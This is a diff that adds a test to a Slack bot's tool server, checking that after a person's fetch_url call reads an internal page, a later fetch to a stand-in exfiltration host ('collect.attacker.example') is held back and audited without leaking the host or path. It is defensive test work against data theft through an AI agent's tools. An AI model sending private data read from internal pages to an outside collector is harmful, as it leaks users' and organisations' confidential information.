@@ -22,6 +22,7 @@ from bot.serve.service import Service
 from tests.bot.conftest import SECRET, App, make_settings
 from tests.bot.serve.slackbot_client import as_person, person, slackbot
 from tests.fakes.openai_server import FakeOpenAI
+from tests.fakes.pages import PageServer
 from tests.fakes.slack_api import FakeSlack
 from tests.signing import signed_headers
 
@@ -195,3 +196,18 @@ async def test_agent_slackbot_mcp_off_removes_the_route(
 def test_every_refusal_reason_is_one_the_audit_schema_takes() -> None:
     reasons = audit.FIELDS["slackbot_mcp.refused"]["reason"]["enum"]
     assert sorted(get_args(Reason)) == sorted(reasons)
+
+
+async def test_the_guard_remembers_what_a_persons_calls_read_and_holds_back_a_later_send(
+    guarded: App, pages: PageServer, audit_file: Path
+) -> None:
+    # A page of an internal host (FETCH_URL_ALLOWED_HOSTS) is private: once read, data goes nowhere unapproved.
+    async with slackbot(f"{guarded.url}/mcp", SECRET) as session:
+        internal = await session.call_tool("fetch_url", {"url": pages.url("/text")}, meta=person("U1", TEAM))
+        out = await session.call_tool("fetch_url", {"url": "https://collect.attacker.example/x"},
+                                      meta=person("U1", TEAM))
+    assert not internal.is_error
+    assert out.is_error and "Held back" in text_of(out)
+    assert [(line["tool"], line["outcome"]) for line in audited(audit_file)] == [
+        ("fetch_url", "ok"), ("fetch_url", "held_back")]
+    assert "attacker" not in audit_file.read_text() and "/text" not in audit_file.read_text()
